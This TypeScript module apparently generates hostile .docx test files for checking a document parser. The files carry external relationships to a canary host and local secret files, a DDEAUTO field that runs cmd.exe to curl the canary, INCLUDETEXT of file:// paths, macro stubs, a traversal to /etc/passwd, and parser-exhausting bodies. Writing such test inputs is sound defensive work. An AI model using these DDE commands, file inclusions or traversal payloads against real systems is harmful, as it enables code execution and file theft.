import { fileOf, type HostileFile } from '../hostile-file.ts';
import { cvParagraphs, makeWord, paragraph, relationsOf } from '../word-file.ts';
import { awkwardFixture } from './fixtures.ts';

/** Everything a Word file can name that lies elsewhere. */
const linkTypes = [
  'attachedTemplate',
  'image',
  'hyperlink',
  'oleObject',
  'aFChunk',
  'subDocument',
  'frame',
  'header',
  'footer',
  'styles',
  'numbering',
  'settings',
  'customXml',
  'video',
  'mailMergeSource',
  'officeDocument',
];

export function* activeWords(canary: string, secretFile: string): Generator<HostileFile> {
  const targets = [
    `${canary}/word`,
    `file://${secretFile}`,
    secretFile,
    `\\\\${new URL(canary).host}\\share\\x`,
    'mhtml:http://x!y',
  ];
  for (const type of linkTypes)
    for (const [index, target] of targets.entries()) {
      const external = index !== 2;
      const parts = {
        'word/_rels/document.xml.rels': relationsOf([{ type, target, external }]),
        'word/_rels/settings.xml.rels': relationsOf([{ type, target, external }]),
      };
      const body = `${cvParagraphs}<w:altChunk r:id="r0"/><w:subDoc r:id="r0"/><w:p><w:hyperlink r:id="r0"><w:r><w:t>ici</w:t></w:r></w:hyperlink></w:p><w:p><w:r><w:object><v:shape><v:imagedata r:id="r0" r:href="r0"/></v:shape><o:OLEObject Type="Link" r:id="r0" UpdateMode="Always"/></w:object></w:r></w:p>`;
      yield fileOf('docx that fetches', `${type} at ${target.slice(0, 24)}`, makeWord(body, parts), 'docx');
    }
  for (const [name, instruction] of Object.entries(fields(canary, secretFile)))
    yield fileOf('docx that acts', name, makeWord(`${field(instruction)}${cvParagraphs}`), 'docx');
  for (const [name, parts] of Object.entries(macros()))
    yield fileOf('docx with macros', name, makeWord(cvParagraphs, parts), 'docx');
  const { bytes } = awkwardFixture('macros.docx');
  for (const extension of ['docx', 'doc', 'pdf'])
    yield fileOf('docx with macros', `a real one as .${extension}`, bytes, extension);
}

function field(instruction: string): string {
  const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
  return `<w:p>${mark('begin')}<w:r><w:instrText>${instruction}</w:instrText></w:r>${mark('separate')}<w:r><w:t>x</w:t></w:r>${mark('end')}</w:p>`;
}

function fields(canary: string, secretFile: string): Record<string, string> {
  return {
    'a command by DDE': `DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k curl ${canary}"`,
    'DDE in pieces': 'DDE "cmd" "/c calc"',
    'a picture to include': `INCLUDEPICTURE "${canary}/x.png" \\d`,
    'a text to include': `INCLUDETEXT "${canary}/x.docx"`,
    'a file to include': `INCLUDETEXT "file://${secretFile}"`,
    'a link': `LINK Excel.Sheet "${canary}/x.xls" "R1C1" \\a`,
    'a database': `DATABASE \\d "${canary}/x.mdb" \\s "SELECT 1"`,
    'a macro button': 'MACROBUTTON AutoOpen ici',
    'an import': `IMPORT "${canary}/x.wmf"`,
    'fields in fields': `${'IF 1 = 1 '.repeat(2_000)}`,
    'a field that never ends': '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>x',
  };
}

function macros(): Record<string, Record<string, string | Uint8Array>> {
  const types = (type: string) => ({
    '[Content_Types].xml': `<Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
  });
  const project = Buffer.from('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1AutoOpen', 'latin1');
  return {
    'its project': { 'word/vbaProject.bin': project },
    'its project elsewhere': { 'customXml/x/vbaProject.bin': project },
    'its project in capitals': { 'word/VBAPROJECT.BIN': project },
    'its data': { 'word/vbaData.xml': '<wne:vbaSuppData/>' },
    'said to have macros': types('application/vnd.ms-word.document.macroEnabled.main+xml'),
    'said to be a template with macros': types('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
    'a control': {
      'word/activeX/activeX1.xml': '<ax:ocx ax:classid="{00000000}"/>',
      'word/activeX/activeX1.bin': project,
    },
    'a program inside': { 'word/embeddings/oleObject1.bin': Buffer.from('MZ\x90\0') },
    'a script inside': { 'word/scripts.xml': '<script>fetch("/")</script>' },
    'a ribbon': { 'customUI/customUI.xml': '<customUI onLoad="AutoOpen"/>' },
  };
}

/** A body as no hand writes it. */
export function* monstrousWords(): Generator<HostileFile> {
  const nested = (open: string, close: string, depth: number, inside = paragraph('au fond')) =>
    `${open.repeat(depth)}${inside}${close.repeat(depth)}`;
  const cell = (inside: string) => `<w:tbl><w:tr><w:tc>${inside}</w:tc></w:tr></w:tbl>`;
  const bodies: Record<string, string> = {
    ...Object.fromEntries(
      [60, 80, 300, 3_000, 30_000].map((depth) => [
        `tables ${depth} deep`,
        nested('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', depth),
      ]),
    ),
    ...Object.fromEntries(
      [250, 260, 100_000].map((depth) => [`tags ${depth} deep`, nested('<w:smartTag>', '</w:smartTag>', depth)]),
    ),
    'boxes in boxes': nested(
      '<w:p><w:r><w:pict><v:textbox><w:txbxContent>',
      '</w:txbxContent></v:textbox></w:pict></w:r></w:p>',
      60,
    ),
    'choices in choices': nested(
      '<mc:AlternateContent><mc:Choice Requires="wps">',
      '</mc:Choice><mc:Fallback/></mc:AlternateContent>',
      100,
    ),
    'half a million empty paragraphs': '<w:p/>'.repeat(500_000),
    'a hundred thousand paragraphs': paragraph('mot').repeat(100_000),
    'thirty thousand letters, each its own paragraph': paragraph('a').repeat(30_000),
    'a hundred thousand runs': `<w:p>${'<w:r><w:t>a</w:t></w:r>'.repeat(100_000)}</w:p>`,
    'a table of 1,000 by 300': `<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(300)}</w:tr>`.repeat(1_000)}</w:tbl>`,
    'ten thousand tables': cell(paragraph('a')).repeat(10_000),
    'a word of a megabyte': paragraph('m'.repeat(1_000_000)),
    'a line of tabs': `<w:p><w:r>${'<w:tab/>'.repeat(200_000)}</w:r></w:p>`,
    'a hundred thousand breaks': `<w:p><w:r>${'<w:br/>'.repeat(100_000)}</w:r></w:p>`,
    'a cell that spans a billion': cell(paragraph('a')).replace(
      '<w:tc>',
      '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>',
    ),
    'a level beyond the last': paragraph(
      'a',
      '<w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="-1"/></w:numPr><w:outlineLvl w:val="1e9"/>',
    ),
    'letters of a size beyond any': '<w:p><w:r><w:rPr><w:sz w:val="1e308"/></w:rPr><w:t>a</w:t></w:r></w:p>',
    'a thousand attributes': `<w:p ${Array.from({ length: 20_000 }, (_, index) => `w:a${index}="x"`).join(' ')}/>${cvParagraphs}`,
    'an attribute of a megabyte': `<w:p w:a="${'x'.repeat(1_000_000)}"/>${cvParagraphs}`,
    'marks on letters without end': paragraph(`e${'\u0301'.repeat(100_000)}`),
    'nothing but marks of direction': paragraph('\u202e\u2066\u2069'.repeat(30_000)),
  };
  for (const [name, body] of Object.entries(bodies))
    yield fileOf('docx out of all measure', name, makeWord(body), 'docx');
  for (const [name, parts] of Object.entries(rings()))
    yield fileOf('docx that leads to itself', name, makeWord(styled, parts), 'docx');
}

const styled = `${paragraph('Titre', '<w:pStyle w:val="s0"/><w:numPr><w:numId w:val="1"/></w:numPr>')}${cvParagraphs}`;

function rings(): Record<string, Record<string, string>> {
  const space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
  const style = (id: number, basedOn: number) =>
    `<w:style w:type="paragraph" w:styleId="s${id}"><w:basedOn w:val="s${basedOn}"/><w:link w:val="s${id}"/></w:style>`;
  const styles = (inside: string) => ({
    'word/styles.xml': `<w:styles ${space}>${inside}</w:styles>`,
    'word/_rels/document.xml.rels': relationsOf([{ type: 'styles', target: 'styles.xml' }]),
  });
  const numbering = (inside: string) => ({
    'word/numbering.xml': `<w:numbering ${space}>${inside}</w:numbering>`,
    'word/_rels/document.xml.rels': relationsOf([{ type: 'numbering', target: 'numbering.xml' }]),
  });
  const links = (target: string, type = 'header') => ({
    'word/_rels/document.xml.rels': relationsOf([{ type, target }]),
  });
  return {
    'a style based on itself': styles(style(0, 0)),
    'two styles based on each other': styles(style(0, 1) + style(1, 0)),
    'a hundred thousand styles, each on the next': styles(
      Array.from({ length: 100_000 }, (_, index) => style(index, index + 1)).join(''),
    ),
    'a list that is its own model': numbering(
      '<w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="s0"/></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num>',
    ),
    'fifty thousand lists': numbering(
      Array.from(
        { length: 50_000 },
        (_, index) => `<w:num w:numId="${index}"><w:abstractNumId w:val="${index}"/></w:num>`,
      ).join(''),
    ),
    'a header that is the document': links('document.xml'),
    'a header that is the links': links('_rels/document.xml.rels'),
    'a header out of the package': links('../../../../../etc/passwd'),
    'ten thousand headers, all the document': {
      'word/_rels/document.xml.rels': relationsOf(
        Array.from({ length: 10_000 }, () => ({ type: 'header', target: 'document.xml' })),
      ),
    },
    'a document that is the links': { '_rels/.rels': relationsOf([{ type: 'officeDocument', target: '_rels/.rels' }]) },
    'a document that is nowhere': {
      '_rels/.rels': relationsOf([{ type: 'officeDocument', target: 'word/nothing.xml' }]),
    },
    'two documents': {
      '_rels/.rels': relationsOf([
        { type: 'officeDocument', target: 'word/document.xml' },
        { type: 'officeDocument', target: '[Content_Types].xml' },
      ]),
    },
  };
}
